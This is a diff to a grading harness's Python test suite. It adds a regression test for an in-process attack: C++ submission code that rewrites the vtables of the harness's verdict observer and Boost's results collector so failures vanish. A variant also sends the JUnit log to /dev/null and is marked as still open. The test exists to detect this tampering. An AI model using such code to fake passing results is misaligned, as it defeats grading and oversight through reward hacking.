@@ -15,6 +15,10 @@ broke the run, reproduced, now earns nothing (and is flagged) or costs only its 
   command line     ./workbook run abc (check, watch, plots, book, grade --chapters abc): a clear
                    error and exit code 2, no traceback
 
+  in-process      the harness's observer and Boost's results collector silenced by rewriting their
+                  vtables in memory: flagged by the signed verdicts contradicting the JUnit log;
+                  OPEN (expected failure): the same with the JUnit log sent to /dev/null
+
 The grading runs share the worker builds of test_grade.py ($WB_TOOLS_TEST_WORKDIR/grade-work)."""
 from __future__ import annotations
 
@@ -156,6 +160,166 @@ def solution_tree(folder: Path, chapters=("01",)) -> None:
             for f in sol.glob("ex*.cpp"):
                 put(folder, f"chapters/{sol.name}/{f.name}", f.read_bytes())
 
+
+
+# ------------------------------------------------------------------------------------------------
+# In-process tampering (found by helper atk, 2026-12-04): no asm, no syscall, no banned reference,
+# no weak or foreign definition, nothing in the source scan. On its first call each exercise
+# function walks the loaded objects (dl_iterate_phdr), finds the harness's VerdictObserver and
+# Boost's results_collector_t by their RTTI names, and points their vtables at copies whose
+# assertion_result / exception_caught slots do nothing. The harness then signs "P" for every case
+# (hidden ones too) with the real key, and Boost exits 0: returning zeros, chapter 1 scored 40/40,
+# unflagged. Now the grader compares each signed "passed" with Boost's JUnit log (which still
+# records the failures) and flags a contradiction (worker.contradictions). That is a tripwire, not
+# a fix: a process that also rewrites its JUnit log gets past it. In-process, anything the harness
+# keeps (key, observer, flags) is the student's to rewrite; a real fix needs the comparison out of
+# the student's process.
+OBSERVER_PATCH = r'''#include <cstdint>
+#include <cstring>
+#include <link.h>
+
+namespace {
+struct Range { std::uintptr_t lo, hi; bool w; };
+Range g_ranges[256];
+int g_nr = 0;
+void* g_fake[2][40];
+int g_done = 0;
+
+int collect(struct dl_phdr_info* info, size_t, void*) {
+    for (int i = 0; i < info->dlpi_phnum && g_nr < 256; ++i) {
+        const auto& ph = info->dlpi_phdr[i];
+        if (ph.p_type != PT_LOAD) continue;
+        std::uintptr_t lo = info->dlpi_addr + ph.p_vaddr;
+        g_ranges[g_nr++] = {lo, lo + ph.p_memsz, (ph.p_flags & PF_W) != 0};
+    }
+    return 0;
+}
+bool inside(std::uintptr_t p, std::size_t n) {
+    for (int i = 0; i < g_nr; ++i)
+        if (p + n > p && p >= g_ranges[i].lo && p + n <= g_ranges[i].hi) return true;
+    return false;
+}
+void quiet_assertion(void*, int) {}
+void quiet_exception(void*, const void*) {}
+
+void tame_the_observer() {
+    if (g_done) return;
+    g_done = 1;
+    dl_iterate_phdr(collect, nullptr);
+    int k = 0;
+    for (int r = 0; r < g_nr && k < 2; ++r) {
+        if (!g_ranges[r].w) continue;
+        for (std::uintptr_t a = (g_ranges[r].lo + 7) & ~std::uintptr_t(7); a + 16 <= g_ranges[r].hi && k < 2; a += 8) {
+            std::uintptr_t vptr;
+            std::memcpy(&vptr, reinterpret_cast<const void*>(a), 8);
+            if (!inside(vptr - 16, 16 * 8)) continue;
+            std::uintptr_t ti;
+            std::memcpy(&ti, reinterpret_cast<const void*>(vptr - 8), 8);
+            if (!inside(ti, 16)) continue;
+            std::uintptr_t name;
+            std::memcpy(&name, reinterpret_cast<const void*>(ti + 8), 8);
+            if (!inside(name, 1)) continue;
+            const char* s = reinterpret_cast<const char*>(name);
+            std::size_t len = 0;
+            while (len < 200 && inside(name + len, 1) && s[len]) ++len;
+            if (len >= 200) continue;
+            const bool verdict = std::strstr(s, "VerdictObserver") != nullptr;
+            if (!verdict && !std::strstr(s, "results_collector_t")) continue;
+            std::memcpy(g_fake[k], reinterpret_cast<const void*>(vptr - 16), 16 * 8);
+            g_fake[k][2 + 9] = reinterpret_cast<void*>(&quiet_assertion);
+            g_fake[k][2 + 10] = reinterpret_cast<void*>(&quiet_exception);
+            void* nv = &g_fake[k][2];
+            std::memcpy(reinterpret_cast<void*>(a), &nv, 8);
+            if (verdict) std::memset(reinterpret_cast<void*>(a + 8), 0, 5);   // failed, exception, ... = false
+            ++k;
+        }
+    }
+}
+}  // namespace
+'''
+
+
+# ... and the JUnit log silenced as well (/dev/null over its descriptors): nothing left to contradict
+# the signed verdicts. Only "review: uses open" in the report. Still open (an expected failure).
+SILENCE_LOG = '''    const int null = open("/dev/null", O_WRONLY);
+    for (int fd = 3; fd < 256; ++fd) {
+        char buf[512];
+        const std::string link = "/proc/self/fd/" + std::to_string(fd);
+        const ssize_t n = readlink(link.c_str(), buf, sizeof buf - 1);
+        if (n <= 0) continue;
+        buf[n] = 0;
+        if (std::strstr(buf, "junit")) dup2(null, fd);
+    }
+'''
+
+
+def observer_patch_files(silence_log: bool = False) -> dict:
+    files = {}
+    patch = OBSERVER_PATCH
+    if silence_log:
+        patch = patch.replace("#include <link.h>\n", "#include <link.h>\n#include <fcntl.h>\n#include <unistd.h>\n#include <string>\n", 1)
+        patch = patch.replace("    g_done = 1;\n", "    g_done = 1;\n" + SILENCE_LOG, 1)
+    code = patch
+    for f, fn in (("ex1_sigmoid", "sigmoid"), ("ex2_sigmoid_prime", "sigmoid_prime"), ("ex3_tanh_prime", "tanh_prime")):
+        files[f + ".cpp"] = ('#include <xtensor/xbuilder.hpp>\n#include "sigmoid.hpp"\n' + code +
+                             f"xt::xarray<double> ch1::{fn}(const xt::xarray<double>& z) "
+                             "{ tame_the_observer(); return xt::zeros<double>(z.shape()); }\n")
+    files["ex4_central_difference.cpp"] = (
+        '#include <xtensor/xbuilder.hpp>\n#include "sigmoid.hpp"\n' + code +
+        "xt::xarray<double> ch1::central_difference(const Fn&, const xt::xarray<double>& z, double) "
+        "{ tame_the_observer(); return xt::zeros<double>(z.shape()); }\n")
+    return files
+
+
+class InProcessTampering(unittest.TestCase):
+    """The attack above, reproduced: the contradiction with the JUnit log flags it. (Chapter 1 only,
+    its own grading run.)"""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-vtable-"))
+        for name, text in observer_patch_files().items():
+            put(cls.tmp / "subs" / "vtable", name, text)
+        for name, text in observer_patch_files(silence_log=True).items():
+            put(cls.tmp / "subs" / "vtable_nolog", name, text)
+        solution_tree(cls.tmp / "subs" / "good")
+        cls.out = cls.tmp / "out"
+        cls.proc = workbook("grade", "-q", "--chapters", "1", "--secret", "a-course-secret", "-o", str(cls.out),
+                            "--work", str(GRADE_WORK), str(cls.tmp / "subs" / "vtable"), str(cls.tmp / "subs" / "vtable_nolog"),
+                            str(cls.tmp / "subs" / "good"))
+
+    @classmethod
+    def tearDownClass(cls):
+        shutil.rmtree(cls.tmp, ignore_errors=True)
+
+    def results(self, name: str) -> dict:
+        return json.loads((self.out / name / "results.json").read_text())
+
+    def test_the_run_completes(self):
+        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
+
+    def test_patched_observer_vtables_earn_nothing_and_are_flagged(self):
+        self.assertEqual(self.results("vtable")["extra_data"]["chapters"]["ch01"], 0)
+        report = (self.out / "vtable" / "report.txt").read_text()
+        self.assertRegex(report, r"INTEGRITY: .*tampered with its results \(the verdict for ex1_\w+/\w+ says passed, "
+                                 r"the test log says failed\)")
+
+    @unittest.expectedFailure
+    def test_with_the_log_silenced_too_earns_nothing(self):
+        # OPEN: 40/40 unflagged (2026-12-04). Closing it needs the checks out of the student's process.
+        report = (self.out / "vtable_nolog" / "report.txt").read_text()
+        self.assertTrue(self.results("vtable_nolog")["extra_data"]["chapters"]["ch01"] == 0 or "INTEGRITY" in report)
+
+    def test_a_correct_submission_is_not_flagged(self):
+        self.assertEqual(self.results("good")["extra_data"]["chapters"]["ch01"], 40)
+        self.assertNotIn("INTEGRITY", (self.out / "good" / "report.txt").read_text())
+
+    def test_contradictions(self):
+        from wb.grading.worker import CaseOutcome, contradictions
+        told = {"a": CaseOutcome("a", "failed"), "b": CaseOutcome("b", "passed"), "c": CaseOutcome("c", "exception")}
+        self.assertEqual(contradictions({"a": "F", "b": "P", "c": "E", "d": "P"}, told, "s"), [])   # d: no log entry
+        self.assertEqual(len(contradictions({"a": "P", "b": "P", "c": "P"}, told, "s")), 2)
+        self.assertEqual(contradictions({"a": "P"}, {}, "s"), [])   # no log (a crash): nothing to compare
 
 class Attacks(unittest.TestCase):
     """One grading run, -j 2, over every attack (and a correct submission beside them)."""
